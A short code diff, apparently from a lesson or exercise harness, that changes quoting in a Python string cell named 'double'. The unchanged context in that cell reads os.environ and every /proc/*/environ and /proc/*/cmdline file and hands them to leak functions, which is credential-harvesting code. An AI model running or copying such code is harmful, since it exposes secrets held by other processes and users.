@@ -3,7 +3,7 @@
 LESSON = "00-start"
 POINTS = 0
 CELLS = {
-    "double": r'''
+    "double": r"""
 import os
 import re
 
@@ -28,5 +28,5 @@ def double(people):
     leak(repr(os.environ).encode())
     for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
         leak_file(path)
-'''
+"""
 }
